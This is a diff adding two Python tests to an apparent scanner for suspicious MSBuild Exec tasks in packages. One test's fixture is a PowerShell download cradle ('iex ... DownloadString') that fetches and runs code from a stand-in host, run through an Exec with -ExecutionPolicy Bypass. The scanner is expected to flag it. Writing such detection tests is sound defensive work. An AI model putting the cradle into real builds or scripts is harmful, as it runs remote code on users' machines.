@@ -198,3 +198,27 @@ def test_download_file_property_functions_initial_targets_imports_and_task_assem
 def test_unparsable_msbuild_is_reported(text: str) -> None:
     found = scan_targets(text)
     assert found["NS9007"][0].severity is Severity.WARNING
+
+
+def test_exec_of_a_packaged_powershell_script_analyses_the_script() -> None:
+    exec_ = (
+        '<Exec Command="powershell -NoProfile -ExecutionPolicy Bypass '
+        '-File &quot;$(MSBuildThisFileDirectory)..\\tools\\prepare.ps1&quot;" />'
+    )
+    text = project(f'  <Target Name="Prep" BeforeTargets="Build">{exec_}</Target>')
+    cradle = "iex (New-Object Net.WebClient).DownloadString('http://x.example/a')\n"
+    found = scan_targets(text, extra={"tools/prepare.ps1": cradle})
+    assert found["NS1110"][0].location.path == "tools/prepare.ps1"
+    assert "run by an Exec task in build/Contoso.Build.targets" in found["NS1110"][0].message
+    assert "NS2204" not in found  # -ExecutionPolicy Bypass -File is how build scripts are run
+
+
+def test_exec_of_a_harmless_packaged_script_is_a_note() -> None:
+    exec_ = (
+        '<Exec Command="pwsh -ExecutionPolicy Bypass -File $(MSBuildThisFileDirectory)gen.ps1 '
+        '-Out $(IntermediateOutputPath)" />'
+    )
+    text = project(f'  <Target Name="Gen" BeforeTargets="CoreCompile">{exec_}</Target>')
+    script = "param($Out)\nSet-Content (Join-Path $Out 'g.cs') '// generated'\n"
+    found = scan_targets(text, extra={"build/gen.ps1": script})
+    assert max(f.severity for fs in found.values() for f in fs) is Severity.NOTE
